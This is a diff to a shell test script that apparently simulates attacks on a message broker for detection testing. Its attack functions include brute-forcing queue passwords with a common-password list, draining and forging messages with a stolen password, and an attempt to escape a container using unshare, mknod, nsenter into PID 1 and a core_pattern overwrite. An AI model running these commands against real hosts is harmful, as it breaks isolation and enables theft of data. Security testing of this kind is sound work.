@@ -99,7 +99,7 @@ ready() {
 }
 
 request() {
-	amqp "$(pick work work work work fanout topic rpc delayed confirm large transaction quorum quorum temporary \
+	amqp "$(pick work work work publish fanout topic rpc delayed confirm large transaction quorum quorum temporary \
 		get headers tls idle)" "$(pick shop:apple-pie shop:apple-pie reports:sunshine7)"
 	[ $((RANDOM % 12)) != 0 ] || amqp get shop:wrong
 }
@@ -232,6 +232,7 @@ attack_brute_force() {
 	local word
 	harm call accept4
 	harm call writev
+	amqp publish
 	for word in 123456 password letmein sunshine{1..9} monkey dragon; do
 		amqp get "reports:$word" || continue
 		amqp drain "reports:$word" >"$stage/drained"
@@ -247,7 +248,7 @@ attack_escape() {
 	node_does os 'unshare -Urm sh -c "mount -t tmpfs none /mnt; grep /mnt /proc/self/mounts; echo
 1 >/sys/fs/cgroup/cgroup.procs; mknod /mnt/disk b 8 0" 2>&1; echo "|/tmp/x" >/proc/sys/kernel/core_pattern;
 ls /proc/1/root /sys/kernel; nsenter -t 1 -m true; echo tried' | tee "$stage/answer" | grep -c tried
-	grep -q '^ *none /mnt' "$stage/answer"
+	grep -q 'none /mnt tmpfs' "$stage/answer"
 }
 
 # A scanner in the node itself.
@@ -277,23 +278,16 @@ load() -> erlang:load_nif(\\\"/var/lib/rabbitmq/rabbit_fast\\\", 0).\"),
 
 # A user whose password was stolen takes all messages.
 adaptive_drain() {
-	local i
 	harm call writev
-	for i in 1 2 3; do
-		amqp work
-	done
+	amqp publish
 	amqp drain reports:sunshine7 >"$stage/drained"
 	grep -q card "$stage/drained"
 }
 
 # The same user puts other orders in the place of those that are there.
 adaptive_orders_forged() {
-	local i
 	harm call writev
-	for i in 1 2 3; do
-		amqp work
-		amqp confirm
-	done
+	amqp publish
 	amqp forge reports:sunshine7 | grep -c forged
 }
 
